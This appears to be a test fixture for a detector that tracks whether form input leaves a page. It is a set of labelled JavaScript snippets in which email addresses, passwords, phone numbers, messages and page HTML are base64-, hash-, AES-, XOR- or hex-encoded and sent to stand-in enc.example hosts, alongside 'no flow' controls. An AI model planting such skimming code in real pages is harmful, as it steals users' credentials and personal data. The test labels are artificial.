//# btoa-json
// flow: email > b64.enc.example via image
var d = btoa(JSON.stringify({ e: document.querySelector('input[type=email]').value }));
new Image().src = 'https://b64.enc.example/i?d=' + d;

//# atob-constant-host
// no flow
// destination: https://hid.enc.example/h
// why: only the address is encoded, nothing is read
fetch(atob('aHR0cHM6Ly9oaWQuZW5jLmV4YW1wbGUvaA=='));

//# subtle-digest
// flow: email > sha.enc.example via fetch
// why: a hash still stands for the address
async function hashed(text) {
  const h = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text.trim().toLowerCase()));
  return [...new Uint8Array(h)].map((b) => b.toString(16).padStart(2, '0')).join('');
}
hashed(document.querySelector('input[type=email]').value).then((em) => fetch('https://sha.enc.example/m?em=' + em));

//# subtle-digest-of-script
// no flow
// why: the hash of a constant; the address is only looked at
const mail = document.querySelector('input[type=email]').value;
crypto.subtle.digest('SHA-1', new TextEncoder().encode('build-77')).then((h) => {
  if (mail !== '') fetch('https://shab.enc.example/b?' + new Uint8Array(h)[0]);
});

//# subtle-encrypt
// flow: password > aes.enc.example via fetch
(async () => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const ct = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(document.querySelector('input[type=password]').value));
  await fetch('https://aes.enc.example/c', { method: 'POST', body: ct });
})();

//# encrypted-and-kept
// no flow
// why: the cipher text stays in storage, the random number is what is sent
(async () => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 128 }, false, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const ct = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(document.querySelector('textarea[name=message]').value));
  localStorage.setItem('vault', btoa(String.fromCharCode(...new Uint8Array(ct))));
  fetch('https://vault.enc.example/iv', { method: 'POST', body: iv });
})();

//# xor-loop
// flow: password > xor.enc.example via xhr
function x(s, k) {
  var o = '';
  for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length));
  return o;
}
var r = new XMLHttpRequest();
r.open('POST', 'https://xor.enc.example/x');
r.send(btoa(x(document.querySelector('input[type=password]').value, 'k3y')));

//# xor-url-only
// no flow
// destination: https://xu.enc.example/q
// why: the loop decodes the address
var enc = [105, 117, 117, 113, 114, 59, 46, 46, 121, 116, 47, 100, 111, 98, 47, 100, 121, 96, 108, 113, 109, 100, 46, 112];
var url = enc.map(function (c) { return String.fromCharCode(c ^ 1); }).join('');
fetch(url);

//# char-code-checksum
// flow: device > crc.enc.example via fetch
var h = 0, ua = navigator.userAgent;
for (var i = 0; i < ua.length; i++) h = ((h << 5) - h + ua.charCodeAt(i)) | 0;
fetch('https://crc.enc.example/f?h=' + h);

//# checksum-of-constant
// no flow
function sum(s) { var h = 7; for (var i = 0; i < s.length; i++) h = (h * 31 + s.charCodeAt(i)) >>> 0; return h; }
var localHash = sum(navigator.userAgent);
console.log(localHash);
fetch('https://crcc.enc.example/asset.' + sum('main.js') + '.js');

//# text-encoder-bytes
// flow: message > te.enc.example via websocket
const ws = new WebSocket('wss://te.enc.example/b');
ws.binaryType = 'arraybuffer';
const pack = (t) => { const b = new TextEncoder().encode(t); const out = new Uint8Array(b.length + 1); out[0] = 7; out.set(b, 1); return out; };
document.querySelector('#send').onclick = () => ws.send(pack(document.querySelector('textarea[name=message]').value));

//# header-bytes-only
// no flow
// why: the buffer has room for the text, but the text is not copied in
const text = document.querySelector('textarea[name=message]').value;
const frame = new Uint8Array(8);
frame[0] = 7;
frame[1] = 1;
console.log(text.length);
fetch('https://frame.enc.example/f', { method: 'POST', body: frame });

//# compression-stream
// flow: interaction > gz.enc.example via fetch
const s = new Blob([document.documentElement.outerHTML]).stream().pipeThrough(new CompressionStream('gzip'));
new Response(s).blob().then((b) => fetch('https://gz.enc.example/g', { method: 'POST', body: b }));

//# hex-array-helper
// flow: phone > hex.enc.example via beacon
var hex = Array.prototype.map.call(document.querySelector('input[type=tel]').value, function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join('');
navigator.sendBeacon('https://hex.enc.example/h', hex);

//# fixed-mask-string
// no flow
// why: the mask has the same length whatever was typed; the rest is a test of the length
var out = [];
var pw = document.querySelector('input[type=password]').value;
for (var j = 0; j < 4; j++) out.push('*');
fetch('https://zero.enc.example/z?n=' + out.join('') + '&ok=' + (pw.length > 3));

//# json-round-trip
// flow: username > rt.enc.example via fetch
const copy = JSON.parse(JSON.stringify({ a: { u: document.querySelector('input[name=username]').value } }));
fetch('https://rt.enc.example/r?u=' + encodeURIComponent(copy.a.u));

//# json-of-element
// no flow
// why: an element has no enumerable own data, it becomes {}
fetch('https://el.enc.example/e', { method: 'POST', body: JSON.stringify({ field: document.querySelector('input[type=password]') }) });

//# random-id-not-stored
// no flow
// why: the id is made anew at each load and the field is not part of it
const rid = crypto.randomUUID();
document.querySelector('input[type=email]').dataset.rid = rid;
fetch('https://rid.enc.example/r', { headers: { 'X-Request-Id': rid } });
